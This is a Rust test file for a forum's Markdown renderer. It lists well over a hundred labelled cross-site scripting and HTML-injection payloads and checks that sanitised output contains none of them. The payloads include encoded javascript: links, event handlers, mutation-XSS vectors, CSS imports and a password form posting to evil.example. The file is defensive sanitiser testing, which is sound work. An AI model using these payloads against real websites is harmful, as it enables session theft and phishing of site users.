//! Texts that attack, each with what it tries.

use crate::platform::text::judge::{faults, rendered};
use proptest::prelude::*;

#[rustfmt::skip]
pub const HOSTILE: &[(&str, &str)] = &[
    // Scripts.
    ("script", "<script>alert(1)</script>"),
    ("script in a line", "a <script>alert(1)</script> b"),
    ("script, capitals", "<ScRiPt>alert(1)</sCrIpT>"),
    ("script with a slash", "<script/src=//evil.example/x.js></script>"),
    ("script with blanks in its end", "<script>alert(1)</script \n bar>"),
    ("script, open", "<script>alert(1)"),
    ("script in script", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script after a broken one", "<<script>alert(1);//<</script>"),
    ("script without an end", "<script src=//evil.example/x"),
    ("script in a code block's language", "```\"><script>alert(1)</script>\na\n```"),
    ("script in code", "`<script>alert(1)</script>`"),
    ("script in a link title", "[a](/b '\"><script>alert(1)</script>')"),
    ("script in an image description", "![\"><script>alert(1)</script>](/b.png)"),
    ("script in an alert title", "> [!NOTE] <script>alert(1)</script>\n> a"),
    ("script in a footnote name", "[^\"><script>]\n\n[^\"><script>]: a"),
    ("script in a table", "|<script>alert(1)</script>|\n|-|\n|<img src=x onerror=alert(1)>|"),
    ("script by data", "<script src=data:text/javascript,alert(1)></script>"),
    ("script with a null byte", "<scr\0ipt>alert(1)</scr\0ipt>"),
    ("script full width", "＜script＞alert(1)＜/script＞"),
    ("script after a form feed", "<script\u{c}>alert(1)</script\u{c}>"),
    // Addresses.
    ("javascript", "[a](javascript:alert(1))"),
    ("javascript, capitals", "[a](JaVaScRiPt:alert(1))"),
    ("javascript, blanks in front", "[a](<  javascript:alert(1)>)"),
    ("javascript, tab within", "<a href=\"java\tscript:alert(1)\">a</a>"),
    ("javascript, line end within", "<a href=\"java\nscript:alert(1)\">a</a>"),
    ("javascript, control in front", "<a href=\"\u{1}javascript:alert(1)\">a</a>"),
    ("javascript by entities", "<a href=\"&#106;&#97;&#118;&#97;&#115;cript:alert(1)\">a</a>"),
    ("javascript by entities without ends", "<a href=\"&#0000106&#0000097&#0000118ascript:alert(1)\">a</a>"),
    ("javascript by hexadecimal entities", "<a href=\"&#x6A&#x61&#x76&#x61script:alert(1)\">a</a>"),
    ("javascript by named entities", "<a href=\"javascript&colon;alert(1)\">a</a>"),
    ("javascript with an entity tab", "<a href=\"jav&Tab;ascript&NewLine;:alert(1)\">a</a>"),
    ("javascript with an entity line end", "<a href=\"jav&#x0A;ascript:alert(1)\">a</a>"),
    ("javascript by Markdown entities", "[a](&#x6A;avascript:alert(1))"),
    ("javascript by percents", "[a](java%73cript:alert(1))"),
    ("javascript by a reference", "[a]\n\n[a]: javascript:alert(1)"),
    ("javascript as an address", "<javascript:alert(1)>"),
    ("javascript in an image", "![a](javascript:alert(1))"),
    ("javascript behind a path", "[a](/x\"onmouseover=\"alert(1))"),
    ("javascript twice named", "<a href=\"/x\" href=\"javascript:alert(1)\">a</a>"),
    ("vbscript", "[a](vbscript:msgbox(1))"),
    ("livescript and mocha", "[a](livescript:x) [b](mocha:x)"),
    ("data page", "[a](data:text/html,<script>alert(1)</script>)"),
    ("data page, base64", "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("data image", "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
    ("file, blob, view-source, tel", "[a](file:///etc/passwd) [b](blob:https://x/y) [c](view-source:x) [d](tel:1)"),
    ("another host by two slashes", "[a](//evil.example) ![b](//evil.example/x.png)"),
    ("another host by backslashes", "[a](/\\evil.example) <a href=\"\\\\evil.example\">b</a>"),
    ("another host by a tab", "<a href=\"/\t/evil.example\">a</a>"),
    ("another host by an entity", "<a href=\"/&#47;evil.example\">a</a><a href=\"&sol;&sol;evil.example\">b</a>"),
    ("another host by dots", "[a](/..//evil.example) [b](/./\\evil.example)"),
    ("another host in our own address", "[a](https://forum.example//evil.example)"),
    ("a name that looks like ours", "[a](https://forum.example@evil.example/)"),
    ("relative addresses", "[a](admin) [b](../admin) [c](?logout) [d](#)"),
    ("xmpp address", "xmpp:a@b.example/<script>"),
    // Handlers.
    ("handler on an image", "<img src=x onerror=alert(1)>"),
    ("handler with a slash", "<img/src=x/onerror=alert(1)>"),
    ("handler in quotes that end early", "<img src=\"x\" alt=\"\"onerror=\"alert(1)\">"),
    ("handler in back quotes", "<img src=`x` onerror=`alert(1)`>"),
    ("handler, capitals", "<b OnMouseOver=alert(1)>a</b>"),
    ("handler on details", "<details open ontoggle=alert(1)><summary>a</summary>b</details>"),
    ("handler with focus", "<b tabindex=1 onfocus=alert(1) autofocus>a</b>"),
    ("handler of an animation", "<b style='animation:x' onanimationstart=alert(1)>a</b>"),
    ("handler on the body", "<body onload=alert(1)>"),
    ("handler after a null byte", "<b \0onclick=alert(1)>a</b>"),
    ("handler with an equals sign in front", "<b =onclick=alert(1)>a</b>"),
    ("handler from a link title", "[a](/b \"x\\\" onclick=\\\"alert(1)\")"),
    ("handler from a shortcode and a name", "@ana\"onclick=alert(1) :tada\"onclick=x:"),
    ("handler in an address", "https://a.example/\"onclick=alert(1)"),
    ("popover and command", "<div popover id=x onbeforetoggle=alert(1)>a</div><button popovertarget=x>b</button>"),
    // Styles.
    ("style element", "<style>body{display:none}</style>"),
    ("style import", "<style>@import 'https://evil.example/x.css'</style>"),
    ("style attribute", "<div style=\"position:fixed;inset:0;background:url(https://evil.example)\">a</div>"),
    ("style expression", "<b style=\"width:expression(alert(1))\">a</b>"),
    ("style sheet link", "<link rel=stylesheet href=https://evil.example/x.css>"),
    ("classes of the page", "<div class=\"skip-link composer alert\">a</div>"),
    ("background", "<table background=https://evil.example/x><tr><td background=x>a</table>"),
    // Elements that act.
    ("meta refresh", "<meta http-equiv=refresh content='0;url=https://evil.example'>"),
    ("base", "<base href=https://evil.example/>[a](/b)"),
    ("form", "<form action=https://evil.example><input name=password type=password autofocus><button>Sign in</button></form>"),
    ("form outside", "<button form=token formaction=https://evil.example>a</button>"),
    ("input image", "<input type=image src=x onerror=alert(1)>"),
    ("iframe", "<iframe src=https://evil.example></iframe>"),
    ("iframe with a page inside", "<iframe srcdoc='<script>alert(1)</script>'></iframe>"),
    ("object and embed", "<object data=x><param name=a value=b>c</object><embed src=x>"),
    ("video and audio", "<video src=https://evil.example/x autoplay poster=y><source src=z></video><audio src=x></audio>"),
    ("picture", "<picture><source srcset=https://evil.example/x><img src=/a.png></picture>"),
    ("srcset", "<img src=/a.png srcset='https://evil.example/x 2x' sizes=1px>"),
    ("lowsrc, dynsrc, longdesc, usemap", "<img src=/a lowsrc=x dynsrc=x longdesc=x usemap=#x>"),
    ("map", "<map name=x><area href=javascript:alert(1)></map>"),
    ("frames", "<frameset><frame src=javascript:alert(1)></frameset>"),
    ("applet, marquee, blink, bgsound", "<applet code=x></applet><marquee onstart=x>a</marquee><blink>b</blink><bgsound src=x>"),
    ("custom element and slot", "<x-y onclick=alert(1)>a</x-y><slot name=x>b</slot>"),
    ("dialog", "<dialog open>a</dialog>"),
    ("portal, keygen, isindex", "<portal src=x></portal><keygen autofocus><isindex action=x>"),
    ("tracking by a foreign image", "![](https://evil.example/pixel.gif)"),
    ("tracking by a ping", "<a href=/x ping=https://evil.example target=_top download>a</a>"),
    ("cite", "<blockquote cite=javascript:alert(1)>a</blockquote><q cite=javascript:alert(1)>b</q>"),
    ("instruction and declaration", "<?xml-stylesheet href='javascript:alert(1)'?><!DOCTYPE html [<!ENTITY x 'y'>]>"),
    // Foreign markup.
    ("svg with a handler", "<svg onload=alert(1)>"),
    ("svg script", "<svg><script>alert(1)</script></svg>"),
    ("svg script by entities", "<svg><script>&#97;lert(1)</script></svg>"),
    ("svg animation", "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>a</text></a></svg>"),
    ("svg use", "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></svg>"),
    ("svg foreign object", "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>"),
    ("math link", "<math href=javascript:alert(1)><mi xlink:href=javascript:alert(1)>a</mi></math>"),
    ("svg namespace", "<b xmlns:svg=http://www.w3.org/2000/svg><svg:script>alert(1)</svg:script></b>"),
    // What changes when it is read again.
    ("mutation by noscript", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("mutation by mglyph", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">"),
    ("mutation by form in math", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"),
    ("mutation by svg style", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">"),
    ("mutation by title", "<svg><title><![CDATA[</title><img src=x onerror=alert(1)>]]></title></svg>"),
    ("mutation by textarea", "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">"),
    ("mutation by xmp", "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">"),
    ("mutation by noembed and noframes", "<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\"><noframes><p title=\"</noframes><img src=x onerror=alert(1)>\">"),
    ("mutation by template", "<template><p title=\"</template><img src=x onerror=alert(1)>\">"),
    ("mutation by plaintext", "<plaintext></plaintext><img src=x onerror=alert(1)>"),
    ("mutation by select", "<select><option><style></option></select><img src=x onerror=alert(1)></style></select>"),
    ("mutation by annotation", "<math><annotation-xml encoding=\"text/html\"><style><img title=\"</style><img src onerror=alert(1)>\">"),
    ("mutation by a table", "<table><td><a href=/x><table><b>a<p>"),
    ("mutation by links in links", "<a href=/a><table><a href=/b>x</table></a>"),
    ("mutation by desc", "<svg><desc><style></desc><img src=x onerror=alert(1)></style></svg>"),
    ("mutation by back quotes", "<abbr title=\"``onmouseover=alert(1)\">a</abbr>"),
    ("mutation by pre", "<pre>\n\n<b>a</pre>"),
    // Comments and broken tags.
    ("comment", "<!-- <script>alert(1)</script> -->"),
    ("comments nested", "<!-- <!-- --> <script>alert(1)</script> -->"),
    ("comment ended early", "<!--><script>alert(1)</script>-->"),
    ("comment ended by dash", "<!---><img src=x onerror=alert(1)>-->"),
    ("comment ended by bang", "<!-- --!><img src=x onerror=alert(1)> -->"),
    ("conditional comment", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"),
    ("data section", "<![CDATA[<script>alert(1)</script>]]>"),
    ("data section ended early", "<div><![CDATA[ > <script>alert(1)</script> ]]></div>"),
    ("leaving the place", "</div></article></main><h1>Moderator</h1>"),
    ("leaving table and list", "</td></tr></table></li></ul></section>a"),
    ("quotes that never end", "<div title=\"><img src=x onerror=alert(1)>"),
    ("tag that never ends", "<div>\n<img src=/x alt=\""),
    ("tag in a tag", "<b <script>alert(1)</script>>"),
    ("end tag with attributes", "</b onclick=alert(1)><b>a</b x=y>"),
    ("html, head and body", "<html><head><title>x</title></head><body class=x lang=fr>a</body></html>"),
    ("tags crossed", "<b><i>a</b>b</i><p><b>c</p>d"),
    ("text in a table", "<table>a<tr>b<td>c</td>d</tr>e</table>"),
    // Names and ids.
    ("id of the page", "<b id=main>a</b><a name=csrf href=/x>b</a>"),
    ("id of a DOM property", "<form id=document><img name=cookie id=location src=/x></form>"),
    ("id twice", "<b id=x>a</b><b id=x>b</b>"),
    ("id with blanks and markup", "<b id='x y'>a</b><b id='\"><script>'>b</b>"),
    ("fragment of the page", "[a](#main) <a href=\"#&#x6d;ain\">b</a>"),
    ("footnote with our prefix", "[^k3-x]\n\n[^k3-x]: a\n\n<b id=k3-fn-x>b</b>"),
    ("roles and labels", "<div role=alert aria-label=x aria-live=assertive tabindex=5 accesskey=a contenteditable draggable=true hidden inert>a</div>"),
    ("data attributes", "<p data-alert=x data-confirm=y is=z part=w itemprop=v>a</p>"),
    ("forged name", "<a class=mention href=https://evil.example>@mona</a>"),
    ("headings of the page", "<h1>a</h1>\n\n# b\n\n###### c\n\n<h2><table><tr><td><h3>d</h3></td></tr></table></h2>"),
    // Characters.
    ("direction override", "a\u{202E}cod.exe\u{202C} \u{202D}b"),
    ("direction override by entity", "<div>&#x202E;cod.exe &#8237;</div>\n\n&#x202e;a"),
    ("null bytes", "a\0b <b\0>c</b> [d](/e\0f)"),
    ("controls", "a\u{1}\u{7}\u{8}\u{1b}[31m\u{7f}\u{9b}b <div>&#1;&#x9b;</div>"),
    ("noncharacters", "a\u{FFFE}\u{FFFF}\u{FDD0}b"),
    ("overlong entity", "&#99999999999999999999; &#xD800; &#x110000; <div>&#99999999999999999999;</div>"),
    ("byte order mark", "\u{FEFF}<script>alert(1)</script>"),
    ("line separator", "[a](/b\u{2028}javascript:alert(1))"),
    ("capitals that fold to ASCII", "<ſcript>alert(1)</ſcript><\u{212A}bd onclick=x>"),
    ("lang and dir", "<p lang='\"><script>' dir=x>a</p><p lang=ar dir=RTL>b</p>"),
    ("numbers", "<td colspan=99999999><ol start=99999999999999999999><li value=x>a</ol><img src=/x width=100% height=-1>"),
    ("language class", "```x\" onclick=\"y\na\n```\n\n<code class=\"language-a language-b evil\">b</code>"),
];

#[test]
fn no_attack_gets_through() {
    assert!(HOSTILE.len() >= 80);
    let mut failed = Vec::new();
    for (what, source) in HOSTILE {
        // Alone, in a quote, in a list, in a cell, in the middle of a line, and in an HTML block.
        for (place, text) in [
            ("alone", (*source).to_owned()),
            ("quoted", format!("> {}", source.replace('\n', "\n> "))),
            ("in a list", format!("- {}", source.replace('\n', "\n  "))),
            ("in a line", format!("a {source} b")),
            (
                "in a cell",
                format!("|a|\n|-|\n|{}|", source.replace(['\n', '|'], " ")),
            ),
            ("in a block", format!("<div>{source}</div>\n\n*after*")),
            (
                "in raw text",
                format!("<details><summary>{source}</summary><ul>{source}</ul>"),
            ),
        ] {
            let html = rendered(&text).unwrap();
            let faults = faults(html.as_str());
            if !faults.is_empty() {
                failed.push(format!(
                    "{what}, {place}: {faults:?}\n    {}",
                    html.as_str()
                ));
            }
        }
    }
    assert!(failed.is_empty(), "{}", failed.join("\n"));
}

/// Pieces that combine badly.
fn piece() -> impl Strategy<Value = String> {
    let marks = prop::sample::select(vec![
        "<",
        ">",
        "\"",
        "'",
        "`",
        "&",
        ";",
        "/",
        "\\",
        "=",
        "-->",
        "<!--",
        "]]>",
        "<![CDATA[",
        "\n",
        "\n\n",
        "> ",
        "- ",
        "1. ",
        "|",
        "|-|\n",
        "[",
        "](",
        ")",
        "![",
        "*",
        "**",
        "_",
        "~~",
        "```\n",
        "<p>",
        "</p>",
        "<table>",
        "<tr>",
        "<td>",
        "</table>",
        "<a href=/x>",
        "</a>",
        "<b>",
        "</b>",
        "<li>",
        "<ul>",
        "</ul>",
        "<pre>",
        "<h1>",
        "</h1>",
        "<svg>",
        "</svg>",
        "<math>",
        "<style>",
        "</style>",
        "<script>",
        "</script>",
        "<title>",
        "</title>",
        "<textarea>",
        "<select>",
        "<template>",
        "<noscript>",
        "<plaintext>",
        "<br>",
        "<img src=/x>",
        "<div title=\"",
        "\0",
        "\u{202E}",
        "[^1]",
        "[^1]: ",
        "@ana",
        "https://forum.example/t/a/1",
        ":tada:",
        "# ",
        "===\n",
    ]);
    prop_oneof![
        4 => marks.prop_map(str::to_owned),
        2 => prop::sample::select(HOSTILE).prop_map(|(_, source)| source.to_owned()),
        1 => "\\PC{0,12}",
        1 => any::<String>(),
    ]
}

fn cases() -> u32 {
    // Some 1 ms each without optimisation, judging included; CI asks for more.
    let scale = std::env::var("PLENUM_TEST_SCALE").ok();
    512 * scale.and_then(|s| s.parse().ok()).unwrap_or(1)
}

proptest! {
    #![proptest_config(ProptestConfig { cases: cases(), failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn no_text_gets_anything_through(source in any::<String>()) {
        if let Ok(html) = rendered(&source) {
            prop_assert_eq!(faults(html.as_str()), Vec::<String>::new(), "{}", html.as_str());
        }
    }

    #[test]
    fn no_soup_gets_anything_through(pieces in prop::collection::vec(piece(), 1..24)) {
        if let Ok(html) = rendered(&pieces.concat()) {
            prop_assert_eq!(faults(html.as_str()), Vec::<String>::new(), "{}", html.as_str());
        }
    }
}
